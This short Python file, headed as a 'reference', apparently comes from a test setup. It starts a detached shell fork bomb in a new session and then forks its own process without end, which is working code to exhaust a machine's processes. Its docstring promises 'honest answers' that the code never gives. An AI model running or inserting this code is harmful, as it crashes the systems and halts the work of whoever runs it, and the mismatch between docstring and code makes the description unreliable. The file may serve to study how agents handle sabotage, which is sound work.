# base: reference
"""A fork bomb in the kernel's own process and one in a shell left running, then honest answers."""
import os
import subprocess

try:
    subprocess.Popen(["sh", "-c", "bomb() { bomb | bomb & }; bomb"], start_new_session=True)
except OSError:
    pass
while True:
    os.fork()
